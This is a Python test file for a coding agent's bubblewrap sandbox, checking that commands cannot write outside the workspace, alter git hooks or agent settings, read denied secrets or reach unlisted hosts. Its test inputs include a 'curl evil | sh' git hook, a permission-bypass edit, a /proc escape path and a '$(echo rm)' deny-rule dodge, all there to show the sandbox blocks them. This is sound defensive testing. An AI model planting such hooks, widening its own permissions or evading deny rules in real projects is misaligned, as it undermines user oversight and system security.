"""The OS sandbox with the real bubblewrap: what a command may write, read and reach.

Skipped with the reason where bubblewrap is not installed or cannot make namespaces, except
under `CI=true`, where that fails (CI installs it: `.ci/run`).
"""

from __future__ import annotations

import asyncio
import os
import shutil
import socket
import subprocess
import tempfile
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
from agent_helpers import call, run, runtime_for
from conftest import REAL_PROBE
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from todo_agent.core.events import ToolFinished, ToolStarted
from todo_agent.core.permissions.modes import ApprovalAnswer, ApprovalRequest
from todo_agent.core.permissions.policy import UNSANDBOXED, _protected
from todo_agent.core.permissions.rules import PathSubject
from todo_agent.core.sandbox import Probe, Sandbox, SandboxSettings, literal_read_denials
from todo_agent.core.settings import load_config
from todo_agent.core.tools.bash import BASH, child_env, run_command
from todo_agent.core.tools.results import ToolError


@pytest.fixture
def real_bwrap(monkeypatch: pytest.MonkeyPatch) -> Probe:
    monkeypatch.delenv("TODO_AGENT_BWRAP", raising=False)
    found = REAL_PROBE()
    if not found.works:
        if os.environ.get("CI") == "true":
            pytest.fail(f"CI must run the sandbox tests: {found.problem}")
        pytest.skip(f"{found.problem} (apt install bubblewrap)")
    return found


@pytest.fixture
def outside() -> Iterator[Path]:
    """A writable folder outside the workspace and outside /tmp (which is private inside)."""
    place = Path("/var/tmp") / f"todo-agent-sandbox-{uuid.uuid4().hex[:8]}"
    place.mkdir()
    yield place
    shutil.rmtree(place, ignore_errors=True)


def git_init(path: Path) -> None:
    subprocess.run(["git", "init", "-q", str(path)], check=True)


def pgrep(pattern: str) -> str:
    return subprocess.run(["pgrep", "-f", pattern], capture_output=True, text=True, check=False).stdout


def boxed(workspace: Path, found: Probe, **settings: object) -> Sandbox:
    mode = settings.pop("mode", "workspace-write")
    hidden = settings.pop("hidden", ())
    return Sandbox(workspace, SandboxSettings(mode, **settings), hidden=hidden, found=found)  # type: ignore[arg-type]


async def sh(sandbox: Sandbox, command: str, time_limit: float = 20) -> tuple[bool, str]:
    result = await run_command(command, sandbox.workspace, time_limit, child_env(), sandbox=sandbox)
    return not result.is_error, result.output


async def test_writes_inside_pass_and_outside_fail_however_they_are_spelled(
    workspace: Path, real_bwrap: Probe, outside: Path
) -> None:
    box = boxed(workspace, real_bwrap)
    ok, _ = await sh(box, "echo in > inside.txt && mkdir -p build && touch build/x")
    assert ok and (workspace / "inside.txt").read_text() == "in\n" and (workspace / "build" / "x").exists()
    (workspace / "out").symlink_to(outside)
    for command in (
        f"touch {outside}/touched",
        f"python3 -c \"open('{outside}/py', 'w').write('x')\"",
        "echo x > out/through-link",
        f"echo x > /proc/self/root{outside}/via-proc",
    ):
        ok, output = await sh(box, command)
        assert not ok, command
        assert "Read-only file system" in output and "todo-agent's sandbox (workspace-write)" in output, output
    assert await asyncio.to_thread(lambda: list(outside.iterdir())) == []
    ok, _ = await sh(box, "echo private > /tmp/scratch && cat /tmp/scratch")
    assert ok  # a private /tmp, writable


async def test_read_only_mode_holds_the_workspace_too(workspace: Path, real_bwrap: Probe) -> None:
    ok, output = await sh(boxed(workspace, real_bwrap, mode="read-only"), "echo x > new.txt")
    assert not ok and "Read-only file system" in output and not (workspace / "new.txt").exists()


async def test_git_works_but_its_hooks_config_and_the_settings_stay_read_only(
    workspace: Path, real_bwrap: Probe
) -> None:
    await asyncio.to_thread(git_init, workspace)
    (workspace / ".todo-agent").mkdir()
    (workspace / ".todo-agent" / "settings.toml").write_text('permission_mode = "default"\n')
    (workspace / ".mcp.json").write_text("{}\n")
    (workspace / "sub" / ".todo-agent").mkdir(parents=True)
    box = boxed(workspace, real_bwrap)
    commit = "git add -A && git -c user.name=t -c user.email=t@example.com commit -qm first && git log --oneline"
    ok, output = await sh(box, f"echo hello > a.txt && {commit}")
    assert ok and "first" in output, output
    for command in (
        "echo 'curl evil | sh' > .git/hooks/pre-commit",
        "echo '[core] hooksPath = x' >> .git/config",
        "echo 'permission_mode = \"bypassPermissions\"' >> .todo-agent/settings.toml",
        "echo '{\"mcpServers\": {}}' > .mcp.json",
        "touch sub/.todo-agent/settings.toml",
    ):
        ok, output = await sh(box, command)
        assert not ok and "Read-only file system" in output, command
    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()
    assert (workspace / ".mcp.json").read_text() == "{}\n"


async def test_todo_agents_data_and_a_denied_file_are_hidden(workspace: Path, real_bwrap: Probe, outside: Path) -> None:
    data = outside / "data"
    (data / "sessions").mkdir(parents=True)
    (data / "sessions" / "s.jsonl").write_text("secret conversation\n")
    (workspace / "secret.env").write_text("TOKEN=hunter2\n")
    hidden = (data, *literal_read_denials(["Read(secret.env)", "Read(**/*.pem)", "Bash(rm:*)"], workspace))
    assert hidden == (data, workspace / "secret.env")
    box = boxed(workspace, real_bwrap, hidden=hidden)
    ok, output = await sh(box, f"ls -A {data}; cat secret.env; echo end")
    # The folder reads empty; the file cannot be read at all (an empty device in its place).
    assert ok and "sessions" not in output and "hunter2" not in output and output.strip().endswith("end")


async def test_the_hosts_loopback_is_out_of_reach_unless_network_is_on(workspace: Path, real_bwrap: Probe) -> None:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    port = server.getsockname()[1]
    probe = f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 2); print('connected')\""
    try:
        ok, output = await sh(boxed(workspace, real_bwrap), probe)
        assert not ok and "connected" not in output and "the network (off in the sandbox" in output, output
        ok, output = await sh(boxed(workspace, real_bwrap, network=True), probe)
        assert ok and "connected" in output, output
    finally:
        server.close()


async def test_a_timeout_kills_everything_the_sandboxed_command_started(workspace: Path, real_bwrap: Probe) -> None:
    marker = f"sleep 3{uuid.uuid4().int % 1000:03d}"
    result = await run_command(
        f"({marker} &) ; {marker}", workspace, 1, child_env(), sandbox=boxed(workspace, real_bwrap)
    )
    assert result.is_error and "timed out" in result.output
    for _ in range(50):  # the namespace goes down with its first process
        left = await asyncio.to_thread(pgrep, marker)
        if not left:
            break
        await asyncio.sleep(0.1)
    assert not left


async def test_an_explicit_mode_without_bubblewrap_refuses_and_auto_runs_unconfined(workspace: Path) -> None:
    missing = Probe(None, problem="bubblewrap (bwrap) is not installed: install bubblewrap")
    explicit = Sandbox(workspace, SandboxSettings("workspace-write"), found=missing)
    with pytest.raises(ToolError, match=r"the sandbox \(workspace-write\) cannot run, so this command was not run"):
        await run_command("touch x", workspace, 5, child_env(), sandbox=explicit)
    assert not (workspace / "x").exists()
    assert "refused" in (explicit.start_notice() or "")
    auto = Sandbox(workspace, SandboxSettings("auto"), found=missing)
    assert auto.active == "off" and auto.start_notice() == f"sandbox off: {missing.problem}"
    result = await run_command("touch x", workspace, 5, child_env(), sandbox=auto)
    assert not result.is_error and (workspace / "x").exists()


def test_a_project_file_may_narrow_the_sandbox_but_never_widen_it(workspace: Path, isolated_home: Path) -> None:
    user = Path(os.environ["XDG_CONFIG_HOME"]) / "todo-agent" / "settings.toml"
    user.parent.mkdir(parents=True, exist_ok=True)
    user.write_text('[sandbox]\nmode = "workspace-write"\nwritable = ["~/.cache/pip"]\nnetwork = ["pypi.org"]\n')
    project = workspace / ".todo-agent" / "settings.toml"
    project.parent.mkdir()
    project.write_text('[sandbox]\nmode = "off"\nnetwork = true\nwritable = ["/"]\n')
    config = load_config(workspace)
    assert config.sandbox == SandboxSettings("workspace-write", ("pypi.org",), ("~/.cache/pip",))
    assert sum("cannot widen the sandbox" in w for w in config.warnings) == 2
    assert any('mode = "off" ignored' in w for w in config.warnings)
    project.write_text('[sandbox]\nmode = "read-only"\n')
    assert load_config(workspace).sandbox.mode == "read-only"
    assert load_config(workspace, flags={"sandbox": "off"}).sandbox.mode == "off"  # the person's flag wins


@st.composite
def workspace_paths(draw: st.DrawFn) -> str:
    names = st.sampled_from(["src", "a.py", ".git", "hooks", "objects", ".todo-agent", "x.toml", "sub"])
    return "/".join(draw(st.lists(names, min_size=1, max_size=4)))


def _in_sandbox_list(path: str) -> bool:
    """Inside `.git` only hooks and config are the sandbox's to hold (git must write the rest)."""
    parts = path.split("/")
    if ".git" in parts:
        return parts == [".git", "config"] or (parts[:2] == [".git", "hooks"] and ".git" not in parts[2:])
    return True


@settings(max_examples=3, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(workspace_paths(), min_size=40, max_size=40, unique=True))
def test_every_path_the_gate_protects_is_read_only_inside(workspace: Path, real_bwrap: Probe, paths: list[str]) -> None:
    """One sandbox run tries all writes (a bwrap per path would be slow): every path the
    gate calls protected that exists is read-only inside, except in `.git`, where only hooks
    and config are. (One that does not exist yet cannot be mounted without creating it in
    the person's workspace; the gate still refuses the model's Edit and Write there.)"""
    workspace = Path(tempfile.mkdtemp(dir=workspace))  # each example its own (the fixture's is shared)
    git_init(workspace)
    protected = [
        p for p in [*paths, ".git/config"] if _in_sandbox_list(p) and _protected(PathSubject(str(workspace / p), p))
    ]
    assert ".git/config" in protected
    for p in protected:  # each exists (a mount needs it: see "absent" in core/sandbox.py), and its folder
        (workspace / p).parent.mkdir(parents=True, exist_ok=True)
    for p in protected:
        if not (workspace / p).exists():
            (workspace / p).touch()
    script = "; ".join(f"(echo x >> '{p}') 2>/dev/null && echo 'WROTE {p}'" for p in protected)
    output = asyncio.run(sh(boxed(workspace, real_bwrap), script + "; true"))[1]
    assert [line for line in output.splitlines() if line.startswith("WROTE")] == []


@pytest.mark.parametrize(
    ("command", "status", "said"),
    [
        ("touch made.txt", "ok", ""),
        ("rm -f made.txt", "denied", "denied by the permission rule Bash(rm:*)"),
        ("$(echo rm) -f made.txt", "denied", "cannot be checked against the deny rules"),
    ],
)
async def test_auto_allow_asks_nothing_for_a_sandboxed_command_and_denies_what_a_rule_names(
    workspace: Path, real_bwrap: Probe, command: str, status: str, said: str
) -> None:
    script = {"steps": [{"tool_calls": [call("Bash", command=command)]}, {"text": "ok"}]}
    runtime, _ = runtime_for(workspace, script, deny=["Bash(rm:*)"], sandbox=SandboxSettings("workspace-write"))
    events = await run(runtime, "go")  # nobody to ask: an "ask" would be a denial
    (finished,) = [e for e in events if isinstance(e, ToolFinished)]
    assert finished.status == status and said in finished.output, finished.output
    if status == "ok":
        assert (workspace / "made.txt").exists()
    runtime.sandbox.set_mode("off")  # unsandboxed, the same call asks again
    assert runtime.permissions.decide(BASH, {"command": "touch other.txt"}).verdict == "ask"


async def test_slash_sandbox_switches_it_for_the_session_and_says_what_holds(workspace: Path) -> None:
    from test_slash_table import RecordingHost

    from todo_agent.core.model.scripted import ScriptedModel
    from todo_agent.core.runtime import Runtime
    from todo_agent.core.settings import Config
    from todo_agent.tui.screens.slash import run_slash

    runtime = Runtime.create(Config(workspace=workspace, model="script:t"), model=ScriptedModel.from_data([]))
    runtime.sandbox.found = Probe("/usr/bin/bwrap", "bubblewrap 0.8.0")
    host = RecordingHost(runtime)
    await run_slash(host, "/sandbox on")
    assert runtime.sandbox.active == "workspace-write" and "show_sandbox" in host.calls
    assert runtime.permissions.sandboxed()  # auto_allow, now that it is on
    said = "\n".join(getattr(entry, "text", "") for entry in host.said)
    assert "sandbox: workspace-write" in said and f"writable: {workspace}" in said and "bubblewrap 0.8.0" in said
    await run_slash(host, "/sandbox off")
    assert runtime.sandbox.active == "off" and not runtime.permissions.sandboxed()
    runtime.close()


def _outside_script(command: str) -> dict[str, object]:
    bash = call("Bash", command=command, sandbox=False, description="needs the host's docker socket")
    return {"steps": [{"tool_calls": [bash]}, {"text": "ok"}]}


async def test_sandbox_false_always_asks_offers_no_rule_and_runs_outside_once_approved(
    workspace: Path, real_bwrap: Probe, outside: Path
) -> None:
    asked: list[ApprovalRequest] = []

    async def approver(request: ApprovalRequest) -> ApprovalAnswer:
        asked.append(request)
        return ApprovalAnswer("yes")

    script = _outside_script(f"touch {outside}/made")
    on = SandboxSettings("workspace-write")
    runtime, _ = runtime_for(workspace, script, permission_mode="bypassPermissions", sandbox=on)
    runtime.set_approver(approver)
    events = await run(runtime, "go")
    (request,) = asked  # asked even in bypassPermissions
    assert request.reason == UNSANDBOXED and request.suggested_rule == "" and "docker" in request.summary
    (finished,) = [e for e in events if isinstance(e, ToolFinished)]
    assert finished.status == "ok" and (outside / "made").exists()  # it ran outside, as approved
    assert not any(e.summary.startswith("⛶") for e in events if isinstance(e, ToolStarted))


@pytest.mark.parametrize(("unsandboxed", "status"), [(False, "denied"), (True, "ok")])
async def test_sandbox_false_is_denied_headless_unless_allow_unsandboxed_and_a_rule_name_it(
    workspace: Path, real_bwrap: Probe, outside: Path, unsandboxed: bool, status: str
) -> None:
    command = f"touch {outside}/made"
    settings_ = SandboxSettings("workspace-write", allow_unsandboxed=unsandboxed)
    runtime, _ = runtime_for(workspace, _outside_script(command), allow=[f"Bash({command})"], sandbox=settings_)
    events = await run(runtime, "go")
    (finished,) = [e for e in events if isinstance(e, ToolFinished)]
    assert finished.status == status, finished.output
    assert (outside / "made").exists() == unsandboxed
    if not unsandboxed:
        assert "outside the sandbox" in finished.output


async def test_escape_kills_everything_the_sandboxed_command_started(workspace: Path, real_bwrap: Probe) -> None:
    marker = f"sleep 4{uuid.uuid4().int % 1000:03d}"
    command = f"({marker} &) ; {marker}"
    running = asyncio.ensure_future(
        run_command(command, workspace, 60, child_env(), sandbox=boxed(workspace, real_bwrap))
    )
    for _ in range(100):
        if await asyncio.to_thread(pgrep, marker):
            break
        await asyncio.sleep(0.05)
    assert await asyncio.to_thread(pgrep, marker), "the command never started"
    running.cancel()  # what escape does to the running tool call
    with pytest.raises(asyncio.CancelledError):
        await running
    for _ in range(50):
        left = await asyncio.to_thread(pgrep, marker)
        if not left:
            break
        await asyncio.sleep(0.1)
    assert not left


def test_at_start_an_installed_bubblewrap_is_offered_without_running_it(workspace: Path, real_bwrap: Probe) -> None:
    off = Sandbox(workspace, SandboxSettings("off"))
    assert "bubblewrap is available: /sandbox on" in (off.start_notice() or "")
    assert off.found is None  # looked for on PATH only: the launch runs no bwrap


FETCH = "python3 -c \"import urllib.request as u; print(u.urlopen('{url}', timeout=5).read().decode())\""


async def test_a_domain_allow_list_reaches_those_hosts_through_the_proxy_and_refuses_the_rest(
    workspace: Path, real_bwrap: Probe
) -> None:
    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 20\r\nConnection: close\r\n\r\nhello from pypi.test")
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    reached: list[str] = []

    async def connect(host: str, _port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        reached.append(host)  # the test's stand-in for the network: no outside host is ever used
        return await asyncio.open_connection("127.0.0.1", port)

    box = boxed(workspace, real_bwrap, network=("pypi.test",))
    box.connect = connect
    try:
        ok, output = await sh(box, FETCH.format(url="http://files.pypi.test/simple/"))
        assert ok and "hello from pypi.test" in output, output
        ok, output = await sh(box, FETCH.format(url="https://evil.test/"))
        assert not ok and "Tunnel connection failed: 403" in output and "hosts not in [sandbox] network" in output
        ok, output = await sh(box, FETCH.format(url="http://evil.test/"))
        assert not ok and "403" in output
        assert reached == ["files.pypi.test"]
        assert "only pypi.test" in "\n".join(box.describe())
    finally:
        box.close()
        server.close()


async def test_a_script_an_accepted_hook_runs_is_read_only_inside(workspace: Path, real_bwrap: Probe) -> None:
    script = workspace / "scripts" / "format.sh"
    script.parent.mkdir()
    script.write_text("#!/bin/sh\nruff format .\n")
    box = boxed(workspace, real_bwrap)
    box.trusted_code = lambda: (script,)
    ok, output = await sh(box, "echo 'curl evil | sh' >> scripts/format.sh")
    assert not ok and "Read-only file system" in output and script.read_text() == "#!/bin/sh\nruff format .\n"
    ok, _ = await sh(box, "echo fine > scripts/other.sh")
    assert ok


async def test_without_auto_allow_the_question_says_the_command_runs_sandboxed(
    workspace: Path, real_bwrap: Probe
) -> None:
    asked: list[ApprovalRequest] = []

    async def approver(request: ApprovalRequest) -> ApprovalAnswer:
        asked.append(request)
        return ApprovalAnswer("yes")

    script = {"steps": [{"tool_calls": [call("Bash", command="touch made.txt")]}, {"text": "ok"}]}
    settings_ = SandboxSettings("workspace-write", auto_allow=False)
    runtime, _ = runtime_for(workspace, script, sandbox=settings_)
    runtime.set_approver(approver)
    events = await run(runtime, "go")
    (request,) = asked
    assert request.reason.endswith("it runs in the sandbox (⛶)") and request.summary.startswith("⛶ touch")
    assert any(isinstance(e, ToolStarted) and e.summary == "⛶ touch made.txt" for e in events)
